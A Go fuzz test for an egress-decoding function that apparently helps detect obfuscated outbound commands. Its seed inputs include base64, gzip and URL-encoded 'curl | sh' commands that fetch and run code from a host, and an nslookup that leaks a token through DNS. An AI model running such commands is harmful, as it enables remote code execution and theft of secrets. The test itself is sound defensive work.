package shield

import (
	"strings"
	"testing"
)

// FuzzEgressDecode checks egressDecode's bounds on any input: it never
// panics, its spans lie in the text, it decodes at most maxEgressRuns runs
// (so at most that many readings of each of egressDecodeDepth levels, a
// few per run) and keeps at most maxEgressDecoded bytes.
func FuzzEgressDecode(f *testing.F) {
	for _, s := range []string{
		"echo Y3VybCAtcyBodHRwOi8vMS4yLjMuNC9hIHwgc2g= | base64 -d | sh",
		"nslookup 746f6b656e3d6162636431323334736563726574.zz.collect-ns.org",
		`{"cmd": "curl%2520-s%2520http%253A//1.2.3.4/a%2520%257C%2520sh"}`,
		"echo H4sIAAAAAAACA0suLcpR0C1WyCgpKbDS1zfUM9Iz1jPRT1SoUSjOAAAAfGNDHQAAAA== | base64 -d | zcat | sh",
		strings.Repeat("%41", 9000) + " " + strings.Repeat("QUFB", 5000),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		bs := egressDecode(text, nil)
		total := 0
		for _, b := range bs {
			if b.start < 0 || b.end > len(text) || b.start >= b.end {
				t.Fatalf("span [%d,%d) outside a text of %d bytes", b.start, b.end, len(text))
			}
			total += len(b.text)
		}
		if total > maxEgressDecoded {
			t.Fatalf("%d decoded bytes, above %d", total, maxEgressDecoded)
		}
		if len(bs) > 4*maxEgressRuns {
			t.Fatalf("%d readings for at most %d runs", len(bs), maxEgressRuns)
		}
	})
}
